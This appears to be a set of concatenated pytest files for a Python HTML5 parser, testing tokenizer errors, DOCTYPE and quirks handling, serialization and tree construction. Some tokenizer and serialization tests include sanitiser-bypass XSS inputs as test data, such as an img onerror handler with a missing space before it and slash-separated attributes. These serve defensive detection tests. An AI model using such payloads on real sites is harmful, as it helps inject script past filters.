            "<p>x"
        ) is QuirksMode.QUIRKS

    def test_html401_transitional_with_system_limited(self):
        assert mode_of(
            '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" '
            '"http://www.w3.org/TR/html4/loose.dtd"><p>x'
        ) is QuirksMode.LIMITED_QUIRKS

    def test_html401_strict_no_quirks(self):
        assert mode_of(
            '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" '
            '"http://www.w3.org/TR/html4/strict.dtd"><p>x'
        ) is QuirksMode.NO_QUIRKS

    def test_xhtml10_transitional_limited(self):
        assert mode_of(
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><p>x'
        ) is QuirksMode.LIMITED_QUIRKS

    def test_xhtml10_strict_no_quirks(self):
        assert mode_of(
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><p>x'
        ) is QuirksMode.NO_QUIRKS

    def test_ietf_html_quirks(self):
        assert mode_of(
            '<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN"><p>x'
        ) is QuirksMode.QUIRKS

    def test_ibm_system_id_quirks(self):
        token = Doctype(
            name="html",
            system_id="http://www.ibm.com/data/dtd/v11/ibmxhtml1-transitional.dtd",
        )
        assert quirks_mode_for(token) is QuirksMode.QUIRKS

    def test_force_quirks_flag(self):
        assert quirks_mode_for(Doctype(name="html", force_quirks=True)) is (
            QuirksMode.QUIRKS
        )

    def test_non_html_name(self):
        assert quirks_mode_for(Doctype(name="svg")) is QuirksMode.QUIRKS

    def test_case_insensitive_public_id(self):
        token = Doctype(name="html", public_id="-//w3c//dtd html 3.2//en")
        assert quirks_mode_for(token) is QuirksMode.QUIRKS


class TestQuirksBehaviour:
    def test_table_in_p_quirks(self):
        """In quirks mode <table> does NOT close an open <p>."""
        result = parse("<p>text<table><tr><td>c</td></tr></table>")
        paragraph = result.document.find("p")
        assert paragraph.find("table") is not None

    def test_table_in_p_no_quirks(self):
        result = parse(
            "<!DOCTYPE html><p>text<table><tr><td>c</td></tr></table>"
        )
        paragraph = result.document.find("p")
        assert paragraph.find("table") is None

    def test_quirks_bool_compatibility(self):
        document = parse("<p>x").document
        assert document.quirks_mode is True
        document = parse("<!DOCTYPE html><p>x").document
        assert document.quirks_mode is False
