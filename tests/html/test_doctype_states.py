"""Full DOCTYPE identifier state tests (spec 13.2.5.56–67)."""
from __future__ import annotations

import pytest

from repro.html import tokenize
from repro.html.errors import ErrorCode
from repro.html.tokens import Doctype


def first_doctype(text):
    tokens, errors = tokenize(text)
    doctype = next(t for t in tokens if isinstance(t, Doctype))
    return doctype, [e.code for e in errors]


class TestPublicIdentifier:
    def test_well_formed(self):
        doctype, errors = first_doctype(
            '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN">'
        )
        assert doctype.public_id == "-//W3C//DTD HTML 4.01//EN"
        assert doctype.system_id is None
        assert errors == []

    def test_single_quoted(self):
        doctype, errors = first_doctype(
            "<!DOCTYPE html PUBLIC '-//X//Y//EN'>"
        )
        assert doctype.public_id == "-//X//Y//EN"
        assert errors == []

    def test_missing_space_after_keyword(self):
        doctype, errors = first_doctype('<!DOCTYPE html PUBLIC"p">')
        assert doctype.public_id == "p"
        assert ErrorCode.MISSING_WHITESPACE_AFTER_DOCTYPE_PUBLIC_KEYWORD in errors
        assert not doctype.force_quirks

    def test_missing_identifier(self):
        doctype, errors = first_doctype("<!DOCTYPE html PUBLIC>")
        assert ErrorCode.MISSING_DOCTYPE_PUBLIC_IDENTIFIER in errors
        assert doctype.force_quirks

    def test_unquoted_identifier_is_bogus(self):
        doctype, errors = first_doctype("<!DOCTYPE html PUBLIC foo>")
        assert ErrorCode.MISSING_QUOTE_BEFORE_DOCTYPE_PUBLIC_IDENTIFIER in errors
        assert doctype.force_quirks

    def test_abrupt_close_inside_identifier(self):
        doctype, errors = first_doctype('<!DOCTYPE html PUBLIC "-//W3C>x')
        assert ErrorCode.ABRUPT_DOCTYPE_PUBLIC_IDENTIFIER in errors
        assert doctype.force_quirks
        assert doctype.public_id == "-//W3C"

    def test_eof_inside_identifier(self):
        doctype, errors = first_doctype('<!DOCTYPE html PUBLIC "-//W3C')
        assert ErrorCode.EOF_IN_DOCTYPE in errors
        assert doctype.force_quirks


class TestSystemIdentifier:
    def test_public_then_system(self):
        doctype, errors = first_doctype(
            '<!DOCTYPE html PUBLIC "p" "s">'
        )
        assert doctype.public_id == "p"
        assert doctype.system_id == "s"
        assert errors == []

    def test_system_alone(self):
        doctype, errors = first_doctype(
            '<!DOCTYPE html SYSTEM "about:legacy-compat">'
        )
        assert doctype.system_id == "about:legacy-compat"
        assert doctype.public_id is None
        assert errors == []

    def test_missing_space_between_public_and_system(self):
        doctype, errors = first_doctype('<!DOCTYPE html PUBLIC "p""s">')
        assert doctype.system_id == "s"
        assert (
            ErrorCode.MISSING_WHITESPACE_BETWEEN_DOCTYPE_PUBLIC_AND_SYSTEM_IDENTIFIERS
            in errors
        )

    def test_missing_system_identifier(self):
        doctype, errors = first_doctype("<!DOCTYPE html SYSTEM >")
        assert ErrorCode.MISSING_DOCTYPE_SYSTEM_IDENTIFIER in errors
        assert doctype.force_quirks

    def test_abrupt_system_identifier(self):
        doctype, errors = first_doctype('<!DOCTYPE html SYSTEM "s>x')
        assert ErrorCode.ABRUPT_DOCTYPE_SYSTEM_IDENTIFIER in errors

    def test_trailing_junk_not_quirks(self):
        """Per spec, junk after the system id is an error but does NOT
        force quirks mode."""
        doctype, errors = first_doctype('<!DOCTYPE html SYSTEM "s" junk>')
        assert (
            ErrorCode.UNEXPECTED_CHARACTER_AFTER_DOCTYPE_SYSTEM_IDENTIFIER
            in errors
        )
        assert not doctype.force_quirks
        assert doctype.system_id == "s"

    def test_null_in_identifier_replaced(self):
        doctype, errors = first_doctype('<!DOCTYPE html SYSTEM "a\x00b">')
        assert doctype.system_id == "a�b"
        assert ErrorCode.UNEXPECTED_NULL_CHARACTER in errors


class TestBogusDoctype:
    def test_bogus_consumes_to_gt(self):
        doctype, errors = first_doctype("<!DOCTYPE html BOGUS stuff here>x")
        assert ErrorCode.INVALID_CHARACTER_SEQUENCE_AFTER_DOCTYPE_NAME in errors
        assert doctype.force_quirks

    def test_bogus_at_eof(self):
        doctype, errors = first_doctype("<!DOCTYPE html BOGUS never closed")
        assert doctype.force_quirks

    def test_quirks_detection_uses_parsed_ids(self):
        from repro.html import parse
        from repro.html.quirks import QuirksMode

        document = parse(
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><p>x'
        ).document
        assert document.mode is QuirksMode.LIMITED_QUIRKS
