"""Tokenizer state machine (HTML 13.2.5) tests — token shapes and every
spec-named parse error the violation rules depend on."""
from __future__ import annotations

import pytest

from repro.html import tokenize
from repro.html.errors import ErrorCode
from repro.html.tokens import (
    EOF,
    Character,
    Comment,
    Doctype,
    EndTag,
    StartTag,
)


def codes(errors):
    return [error.code for error in errors]


def tags(tokens):
    return [t for t in tokens if isinstance(t, (StartTag, EndTag))]


class TestBasicTokens:
    def test_simple_start_tag(self):
        tokens, errors = tokenize("<p>")
        assert isinstance(tokens[0], StartTag)
        assert tokens[0].name == "p"
        assert errors == []

    def test_tag_name_lowercased(self):
        tokens, _ = tokenize("<DIV>")
        assert tokens[0].name == "div"

    def test_end_tag(self):
        tokens, _ = tokenize("</p>")
        assert isinstance(tokens[0], EndTag)
        assert tokens[0].name == "p"

    def test_text_runs_batched(self):
        tokens, _ = tokenize("hello world")
        chars = [t for t in tokens if isinstance(t, Character)]
        assert "".join(c.data for c in chars) == "hello world"

    def test_self_closing_flag(self):
        tokens, errors = tokenize("<br/>")
        assert tokens[0].self_closing
        assert errors == []

    def test_eof_token_last(self):
        tokens, _ = tokenize("x")
        assert isinstance(tokens[-1], EOF)

    def test_attributes_parsed(self):
        tokens, _ = tokenize('<a href="/x" id=main disabled>')
        attrs = {a.name: a.value for a in tokens[0].attributes}
        assert attrs == {"href": "/x", "id": "main", "disabled": ""}

    def test_attribute_names_lowercased(self):
        tokens, _ = tokenize("<a HREF='/x'>")
        assert tokens[0].attributes[0].name == "href"

    def test_single_quoted_value(self):
        tokens, _ = tokenize("<a title='it''s'>")
        assert tokens[0].attr("title") == "it"

    def test_entity_in_attribute_decoded(self):
        tokens, _ = tokenize('<a title="a &amp; b">')
        assert tokens[0].attr("title") == "a & b"

    def test_entity_in_text_decoded(self):
        tokens, _ = tokenize("a &amp; b")
        text = "".join(t.data for t in tokens if isinstance(t, Character))
        assert text == "a & b"

    def test_offsets_recorded(self):
        tokens, _ = tokenize("ab<p>")
        tag = tags(tokens)[0]
        assert tag.offset == 2
        assert tag.end == 5

    def test_tag_spans_slice_source(self):
        source = 'x<a href="/y" id=z>tail'
        tokens, _ = tokenize(source)
        tag = tags(tokens)[0]
        assert source[tag.offset : tag.end] == '<a href="/y" id=z>'


class TestFilterBypassErrors:
    """The error states behind FB1 and FB2."""

    def test_fb1_solidus_between_attributes(self):
        tokens, errors = tokenize('<img/src="x"/onerror="y">')
        assert codes(errors).count(ErrorCode.UNEXPECTED_SOLIDUS_IN_TAG) == 2
        attrs = {a.name: a.value for a in tokens[0].attributes}
        assert attrs == {"src": "x", "onerror": "y"}

    def test_fb1_marks_attribute(self):
        tokens, _ = tokenize('<img/src="x">')
        assert tokens[0].attributes[0].preceded_by_solidus

    def test_trailing_solidus_is_not_fb1(self):
        _, errors = tokenize('<img src="x"/>')
        assert ErrorCode.UNEXPECTED_SOLIDUS_IN_TAG not in codes(errors)

    def test_fb2_missing_whitespace(self):
        tokens, errors = tokenize('<img src="a"onerror="x">')
        assert ErrorCode.MISSING_WHITESPACE_BETWEEN_ATTRIBUTES in codes(errors)
        assert tokens[0].attributes[1].missing_preceding_space

    def test_fb2_paper_example(self):
        _, errors = tokenize(
            '<img src="users/injection"onerror="alert(\'XSS\')">'
        )
        assert ErrorCode.MISSING_WHITESPACE_BETWEEN_ATTRIBUTES in codes(errors)

    def test_properly_spaced_attributes_clean(self):
        _, errors = tokenize('<img src="a" onerror="x">')
        assert errors == []


class TestDuplicateAttributes:
    def test_dm3_duplicate_reported(self):
        tokens, errors = tokenize('<div id="a" id="b">')
        dups = [e for e in errors if e.code is ErrorCode.DUPLICATE_ATTRIBUTE]
        assert len(dups) == 1
        assert dups[0].detail == "id"

    def test_first_value_wins(self):
        tokens, _ = tokenize('<div onclick="evil()" onclick="benign()">')
        assert tokens[0].attr("onclick") == "evil()"

    def test_duplicate_flagged_on_token(self):
        tokens, _ = tokenize('<div a="1" a="2">')
        assert [a.duplicate for a in tokens[0].attributes] == [False, True]

    def test_visible_attributes_drop_duplicates(self):
        tokens, _ = tokenize('<div a="1" a="2" b="3">')
        assert [a.name for a in tokens[0].visible_attributes()] == ["a", "b"]

    def test_triple_duplicate(self):
        _, errors = tokenize('<div a="1" a="2" a="3">')
        assert codes(errors).count(ErrorCode.DUPLICATE_ATTRIBUTE) == 2


class TestTagStateErrors:
    def test_question_mark_bogus_comment(self):
        tokens, errors = tokenize("<?xml version='1.0'?>")
        assert ErrorCode.UNEXPECTED_QUESTION_MARK_INSTEAD_OF_TAG_NAME in codes(errors)
        assert isinstance(tokens[0], Comment)

    def test_invalid_first_char_emits_lt_as_text(self):
        tokens, errors = tokenize("a < b")
        assert ErrorCode.INVALID_FIRST_CHARACTER_OF_TAG_NAME in codes(errors)
        text = "".join(t.data for t in tokens if isinstance(t, Character))
        assert text == "a < b"

    def test_missing_end_tag_name(self):
        tokens, errors = tokenize("a</>b")
        assert ErrorCode.MISSING_END_TAG_NAME in codes(errors)
        assert not tags(tokens)

    def test_eof_in_tag(self):
        _, errors = tokenize("<div class=")
        assert ErrorCode.EOF_IN_TAG in codes(errors)

    def test_eof_before_tag_name(self):
        tokens, errors = tokenize("x<")
        assert ErrorCode.EOF_BEFORE_TAG_NAME in codes(errors)
        text = "".join(t.data for t in tokens if isinstance(t, Character))
        assert text == "x<"

    def test_end_tag_with_attributes(self):
        _, errors = tokenize('</div class="x">')
        assert ErrorCode.END_TAG_WITH_ATTRIBUTES in codes(errors)

    def test_unexpected_equals_before_attribute_name(self):
        tokens, errors = tokenize("<div =foo>")
        assert ErrorCode.UNEXPECTED_EQUALS_SIGN_BEFORE_ATTRIBUTE_NAME in codes(errors)

    def test_quote_in_attribute_name(self):
        _, errors = tokenize("<option value='Cote d'Ivoire'>")
        assert ErrorCode.UNEXPECTED_CHARACTER_IN_ATTRIBUTE_NAME in codes(errors)

    def test_missing_attribute_value(self):
        _, errors = tokenize("<a href=>")
        assert ErrorCode.MISSING_ATTRIBUTE_VALUE in codes(errors)

    def test_lt_in_unquoted_value(self):
        _, errors = tokenize("<a href=a<b>")
        assert ErrorCode.UNEXPECTED_CHARACTER_IN_UNQUOTED_ATTRIBUTE_VALUE in codes(
            errors
        )

    def test_null_in_tag_name(self):
        tokens, errors = tokenize("<di\x00v>")
        assert ErrorCode.UNEXPECTED_NULL_CHARACTER in codes(errors)
        assert tokens[0].name == "di�v"


class TestComments:
    def test_simple_comment(self):
        tokens, errors = tokenize("<!-- hi -->")
        assert isinstance(tokens[0], Comment)
        assert tokens[0].data == " hi "
        assert errors == []

    def test_abrupt_empty_comment(self):
        tokens, errors = tokenize("<!-->x")
        assert ErrorCode.ABRUPT_CLOSING_OF_EMPTY_COMMENT in codes(errors)
        assert isinstance(tokens[0], Comment)

    def test_abrupt_dash_comment(self):
        _, errors = tokenize("<!--->x")
        assert ErrorCode.ABRUPT_CLOSING_OF_EMPTY_COMMENT in codes(errors)

    def test_eof_in_comment(self):
        tokens, errors = tokenize("<!-- never closed")
        assert ErrorCode.EOF_IN_COMMENT in codes(errors)
        assert isinstance(tokens[0], Comment)

    def test_nested_comment_error(self):
        _, errors = tokenize("<!-- a <!-- b --> c -->")
        assert ErrorCode.NESTED_COMMENT in codes(errors)

    def test_incorrectly_closed_comment(self):
        tokens, errors = tokenize("<!-- x --!>")
        assert ErrorCode.INCORRECTLY_CLOSED_COMMENT in codes(errors)

    def test_incorrectly_opened_comment(self):
        tokens, errors = tokenize("<! bogus >")
        assert ErrorCode.INCORRECTLY_OPENED_COMMENT in codes(errors)
        assert isinstance(tokens[0], Comment)

    def test_dashes_inside_comment(self):
        tokens, _ = tokenize("<!-- a - b -- c -->")
        assert tokens[0].data == " a - b -- c "

    def test_comment_with_lt_bang(self):
        tokens, errors = tokenize("<!-- <! -->")
        assert isinstance(tokens[0], Comment)
        assert ErrorCode.NESTED_COMMENT not in codes(errors)


class TestDoctype:
    def test_html5_doctype(self):
        tokens, errors = tokenize("<!DOCTYPE html>")
        assert isinstance(tokens[0], Doctype)
        assert tokens[0].name == "html"
        assert not tokens[0].force_quirks
        assert errors == []

    def test_case_insensitive_keyword(self):
        tokens, _ = tokenize("<!doctype HTML>")
        assert tokens[0].name == "html"

    def test_public_identifier(self):
        tokens, _ = tokenize(
            '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" '
            '"http://www.w3.org/TR/html4/strict.dtd">'
        )
        assert tokens[0].public_id == "-//W3C//DTD HTML 4.01//EN"
        assert tokens[0].system_id == "http://www.w3.org/TR/html4/strict.dtd"

    def test_system_identifier(self):
        tokens, _ = tokenize('<!DOCTYPE html SYSTEM "about:legacy-compat">')
        assert tokens[0].system_id == "about:legacy-compat"

    def test_missing_name(self):
        tokens, errors = tokenize("<!DOCTYPE>")
        assert ErrorCode.MISSING_DOCTYPE_NAME in codes(errors)
        assert tokens[0].force_quirks

    def test_eof_in_doctype(self):
        _, errors = tokenize("<!DOCTYPE htm")
        assert ErrorCode.EOF_IN_DOCTYPE in codes(errors)

    def test_bogus_keyword_after_name(self):
        tokens, errors = tokenize("<!DOCTYPE html BOGUS>")
        assert ErrorCode.INVALID_CHARACTER_SEQUENCE_AFTER_DOCTYPE_NAME in codes(
            errors
        )
        assert tokens[0].force_quirks


class TestNullAndData:
    def test_null_in_data_is_error_but_kept(self):
        tokens, errors = tokenize("a\x00b")
        assert ErrorCode.UNEXPECTED_NULL_CHARACTER in codes(errors)
        text = "".join(t.data for t in tokens if isinstance(t, Character))
        assert text == "a\x00b"
