"""Serialization (HTML 13.3) tests, including the parse→serialize stability
property the auto-fixer relies on."""
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.html import inner_html, parse, serialize
from repro.html.dom import Element, Text


def roundtrip(text: str) -> str:
    return serialize(parse(text).document)


class TestBasicSerialization:
    def test_doctype(self):
        assert roundtrip("<!DOCTYPE html>").startswith("<!DOCTYPE html>")

    def test_attributes_quoted(self):
        out = roundtrip("<p id=a title='x y'>t</p>")
        assert 'id="a"' in out and 'title="x y"' in out

    def test_attribute_value_escaped(self):
        out = roundtrip('<p title="a&quot;b">t</p>')
        assert 'title="a&quot;b"' in out

    def test_text_escaped(self):
        out = roundtrip("<p>a &lt; b &amp; c</p>")
        assert "a &lt; b &amp; c" in out

    def test_void_element_no_end_tag(self):
        out = roundtrip('<body><img src="x"><br></body>')
        assert "</img>" not in out and "</br>" not in out

    def test_raw_text_not_escaped(self):
        out = roundtrip("<script>a < b && c</script>")
        assert "a < b && c" in out

    def test_comment(self):
        assert "<!--note-->" in roundtrip("<body><!--note--></body>")

    def test_empty_attribute(self):
        out = roundtrip("<input disabled>")
        assert 'disabled=""' in out

    def test_inner_html(self):
        result = parse("<body><p>one</p><p>two</p></body>")
        assert inner_html(result.document.body) == "<p>one</p><p>two</p>"

    def test_manual_tree(self):
        root = Element("div", attributes={"id": "x"})
        root.append(Text("hi"))
        assert serialize(root) == '<div id="x">hi</div>'


class TestStability:
    """serialize(parse(x)) must be a fixed point of parse∘serialize for
    non-adversarial documents — mXSS payloads are the exception that
    proves the rule (see test_mxss.py)."""

    @pytest.mark.parametrize(
        "text",
        [
            "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
            "<p>one<p>two",
            "<ul><li>a<li>b</ul>",
            '<img src="a"onerror="x()">',
            '<img/src="a"/alt="b">',
            "<table><tr><td>x</td></tr></table>",
            '<div id="a" id="b">dup</div>',
            "<svg><circle r='1'/></svg>",
            "<select><option>a<option>b</select>",
            "<pre>\ntext</pre>",
        ],
    )
    def test_second_roundtrip_stable(self, text):
        once = roundtrip(text)
        assert roundtrip(once) == once

    def test_fb_violations_gone_after_roundtrip(self):
        from repro.core import Checker

        checker = Checker()
        dirty = '<body><img src="a"onerror="x()"><img/src="b"/alt="c"></body>'
        assert {"FB1", "FB2"} <= checker.check_html(dirty).violated
        clean = roundtrip(dirty)
        assert checker.check_html(clean).violated & {"FB1", "FB2"} == set()


@st.composite
def html_soup(draw):
    """Random tag soup from a constrained alphabet (fast to parse)."""
    bits = draw(
        st.lists(
            st.sampled_from(
                [
                    "<p>", "</p>", "<div>", "</div>", "<b>", "</b>",
                    "<table>", "</table>", "<tr>", "<td>", "text ",
                    "<img src=x>", "&amp;", "&", "<", ">", '"',
                    "<span id=a>", "</span>", "<!--c-->", "<select>",
                    "<option>", "</select>", "<svg>", "</svg>", "<math>",
                    "<textarea>", "</textarea>", "\n", "<head>", "<body>",
                ]
            ),
            max_size=25,
        )
    )
    return "".join(bits)


class TestProperties:
    @given(html_soup())
    @settings(max_examples=150, deadline=None)
    def test_parse_serialize_never_crashes(self, text):
        serialize(parse(text).document)

    @given(st.text(max_size=200))
    @settings(max_examples=150, deadline=None)
    def test_arbitrary_text_never_crashes(self, text):
        serialize(parse(text).document)

    @given(html_soup())
    @settings(max_examples=80, deadline=None)
    def test_serialized_output_reparses(self, text):
        once = serialize(parse(text).document)
        serialize(parse(once).document)  # must not crash either
