"""Table-driven tree-construction conformance cases (html5lib-tests style).

Each case maps an input document to the expected tree dump.  The inputs
are drawn from the classic html5lib-tests corpus patterns: implied
elements, misnesting, tables, formatting reconstruction, foreign content.
"""
from __future__ import annotations

import textwrap

import pytest

from repro.html import parse
from repro.html.dump import dump_tree


def check(text: str, expected: str) -> None:
    actual = dump_tree(parse(text).document)
    assert actual == textwrap.dedent(expected).strip("\n")


class TestBasicTrees:
    def test_minimal(self):
        check(
            "<!DOCTYPE html>x",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     "x"
            """,
        )

    def test_implied_everything(self):
        check(
            "hello",
            """
            | <html>
            |   <head>
            |   <body>
            |     "hello"
            """,
        )

    def test_attributes_sorted(self):
        check(
            '<!DOCTYPE html><p id="z" class="a">t</p>',
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <p>
            |       class="a"
            |       id="z"
            |       "t"
            """,
        )

    def test_comment_placement(self):
        check(
            "<!DOCTYPE html><!--before--><html><body>x",
            """
            | <!DOCTYPE html>
            | <!-- before -->
            | <html>
            |   <head>
            |   <body>
            |     "x"
            """,
        )


class TestMisnesting:
    def test_p_in_p(self):
        check(
            "<!DOCTYPE html><p>1<p>2",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <p>
            |       "1"
            |     <p>
            |       "2"
            """,
        )

    def test_b_reconstruction(self):
        check(
            "<!DOCTYPE html><p><b>bold<p>still bold",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <p>
            |       <b>
            |         "bold"
            |     <p>
            |       <b>
            |         "still bold"
            """,
        )

    def test_adoption_agency_classic(self):
        check(
            "<!DOCTYPE html><b>1<i>2</b>3</i>",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <b>
            |       "1"
            |       <i>
            |         "2"
            |     <i>
            |       "3"
            """,
        )

    def test_end_tag_closes_through_inline(self):
        check(
            "<!DOCTYPE html><div><span>x</div>after",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <div>
            |       <span>
            |         "x"
            |     "after"
            """,
        )


class TestTables:
    def test_implied_tbody(self):
        check(
            "<!DOCTYPE html><table><tr><td>c</td></tr></table>",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <table>
            |       <tbody>
            |         <tr>
            |           <td>
            |             "c"
            """,
        )

    def test_foster_parenting(self):
        check(
            "<!DOCTYPE html><table><b>moved</b><tr><td>c</td></tr></table>",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <b>
            |       "moved"
            |     <table>
            |       <tbody>
            |         <tr>
            |           <td>
            |             "c"
            """,
        )

    def test_cell_implies_row_close(self):
        check(
            "<!DOCTYPE html><table><tr><td>1<td>2</table>",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <table>
            |       <tbody>
            |         <tr>
            |           <td>
            |             "1"
            |           <td>
            |             "2"
            """,
        )


class TestForeign:
    def test_svg_subtree(self):
        check(
            '<!DOCTYPE html><svg><g id="i"><rect/></g></svg>',
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <svg svg>
            |       <svg g>
            |         id="i"
            |         <svg rect>
            """,
        )

    def test_math_text_integration(self):
        check(
            "<!DOCTYPE html><math><mtext><b>t</b></mtext></math>",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <math math>
            |       <math mtext>
            |         <b>
            |           "t"
            """,
        )

    def test_breakout(self):
        check(
            "<!DOCTYPE html><svg><p>out</p></svg>done",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     <svg svg>
            |     <p>
            |       "out"
            |     "done"
            """,
        )


class TestHeadBody:
    def test_meta_after_head_rerouted(self):
        check(
            '<!DOCTYPE html><head></head><meta charset="x"><body>t',
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |     <meta>
            |       charset="x"
            |   <body>
            |     "t"
            """,
        )

    def test_text_after_head_opens_body(self):
        check(
            "<!DOCTYPE html><head></head>text",
            """
            | <!DOCTYPE html>
            | <html>
            |   <head>
            |   <body>
            |     "text"
            """,
        )
