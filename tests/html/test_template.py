"""<template> insertion-mode tests (HTML 13.2.6.4.22)."""
from __future__ import annotations

from repro.html import inner_html, parse

PAGE = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
)


class TestTemplateParsing:
    def test_simple_template(self):
        result = parse(PAGE.format("<template><p>inside</p></template>"))
        template = result.document.find("template")
        assert template is not None
        assert template.find("p") is not None
        assert result.errors == [] and result.events == []

    def test_table_parts_survive_in_template(self):
        """Outside a table, a stray <tr> is dropped; inside a template the
        'in template' mode routes it through the table modes."""
        result = parse(PAGE.format(
            '<template id="row"><tr><td>cell</td></tr></template>'
        ))
        template = result.document.find("template")
        assert inner_html(template) == "<tr><td>cell</td></tr>"

    def test_bare_cells_in_template(self):
        result = parse(PAGE.format("<template><td>a</td><td>b</td></template>"))
        template = result.document.find("template")
        assert [e.name for e in template.find_all("td")] == ["td", "td"]

    def test_col_in_template(self):
        result = parse(PAGE.format('<template><col span="2"></template>'))
        assert result.document.find("col") is not None

    def test_template_in_head_stays_in_head(self):
        result = parse(
            "<!DOCTYPE html><html><head><template><p>x</p></template>"
            "</head><body>y</body></html>"
        )
        head = result.document.head
        assert head.find("template") is not None
        # no broken-head events: template is allowed head content
        assert result.events == []

    def test_nested_templates(self):
        result = parse(PAGE.format(
            "<template><template><b>deep</b></template></template>"
        ))
        templates = result.document.find_all("template")
        assert len(templates) == 2
        assert templates[0].find("template") is templates[1]

    def test_unclosed_template_reported_at_eof(self):
        result = parse("<body><template><div>never closed")
        assert "template" in {
            event.tag for event in result.events_of("element-open-at-eof")
        }

    def test_content_after_unclosed_template_still_parsed(self):
        result = parse("<body><template><div>x")
        # EOF pops the template; the div ends up inside it
        template = result.document.find("template")
        assert template.find("div") is not None

    def test_stray_end_template_ignored(self):
        result = parse(PAGE.format("</template><p>after</p>"))
        assert result.document.find("p") is not None

    def test_template_end_tag_closes_open_elements(self):
        result = parse(PAGE.format("<template><b><i>x</template><p>out</p>"))
        paragraph = result.document.find("p")
        assert paragraph is not None
        assert paragraph.parent.name == "body"

    def test_template_inside_table(self):
        result = parse(PAGE.format(
            "<table><template><tr><td>t</td></tr></template>"
            "<tr><td>real</td></tr></table>"
        ))
        table = result.document.find("table")
        assert table.find("template") is not None
        # template content was not foster-parented
        fostered = [e for e in result.events if e.kind == "foster-parented"]
        assert fostered == []

    def test_checker_sees_violations_inside_template(self):
        from repro.core import Checker

        report = Checker().check_html(PAGE.format(
            '<template><img src="a"onerror="x()"></template>'
        ))
        assert "FB2" in report.violated

    def test_select_inside_template(self):
        result = parse(PAGE.format(
            "<template><select><option>a</option></select></template>x"
        ))
        assert result.document.find("option") is not None
