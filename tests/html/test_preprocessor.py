"""Input-stream preprocessing (HTML 13.2.3) tests."""
from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.html import decode_bytes, preprocess
from repro.html.errors import ErrorCode


class TestDecodeBytes:
    def test_plain_utf8(self):
        assert decode_bytes("héllo".encode("utf-8")) == "héllo"

    def test_utf8_bom_stripped(self):
        assert decode_bytes(b"\xef\xbb\xbfhi") == "hi"

    def test_latin1_rejected(self):
        assert decode_bytes("café".encode("latin-1")) is None

    def test_utf16_rejected(self):
        assert decode_bytes("hello".encode("utf-16")) is None

    def test_empty(self):
        assert decode_bytes(b"") == ""

    def test_invalid_continuation_byte(self):
        assert decode_bytes(b"ok\xc3\x28bad") is None


class TestPreprocess:
    def test_crlf_to_lf(self):
        assert preprocess("a\r\nb").text == "a\nb"

    def test_lone_cr_to_lf(self):
        assert preprocess("a\rb").text == "a\nb"

    def test_mixed_line_endings(self):
        assert preprocess("a\r\r\nb\r").text == "a\n\nb\n"

    def test_bom_stripped(self):
        assert preprocess("﻿x").text == "x"

    def test_no_cr_untouched(self):
        text = "line1\nline2"
        assert preprocess(text).text == text

    def test_control_char_error_collected(self):
        result = preprocess("a\x01b", collect_errors=True)
        assert [e.code for e in result.errors] == [
            ErrorCode.CONTROL_CHARACTER_IN_INPUT_STREAM
        ]
        assert result.errors[0].offset == 1

    def test_tab_and_lf_are_not_errors(self):
        result = preprocess("a\tb\nc", collect_errors=True)
        assert result.errors == []

    def test_noncharacter_error(self):
        result = preprocess("a﷐b", collect_errors=True)
        assert [e.code for e in result.errors] == [
            ErrorCode.NONCHARACTER_IN_INPUT_STREAM
        ]

    def test_errors_not_collected_by_default(self):
        assert preprocess("a\x01b").errors == []

    @given(st.text())
    def test_never_leaves_cr(self, text):
        assert "\r" not in preprocess(text).text

    @given(st.text())
    def test_idempotent(self, text):
        once = preprocess(text).text
        assert preprocess(once).text == once
