"""Tree-dump utility tests."""
from __future__ import annotations

from repro.html import parse
from repro.html.dump import dump_tree


class TestDump:
    def test_doctype_with_ids(self):
        out = dump_tree(parse(
            '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" '
            '"http://www.w3.org/TR/html4/strict.dtd">x'
        ).document)
        assert out.splitlines()[0] == (
            '| <!DOCTYPE html "-//W3C//DTD HTML 4.01//EN" '
            '"http://www.w3.org/TR/html4/strict.dtd">'
        )

    def test_comment(self):
        out = dump_tree(parse("<!DOCTYPE html><body><!--note-->").document)
        assert "<!-- note -->" in out

    def test_text_quoted(self):
        out = dump_tree(parse("<!DOCTYPE html>hi").document)
        assert '| "hi"' in out or '"hi"' in out

    def test_foreign_prefix(self):
        out = dump_tree(parse("<!DOCTYPE html><svg></svg><math></math>").document)
        assert "<svg svg>" in out
        assert "<math math>" in out

    def test_attribute_lines_sorted(self):
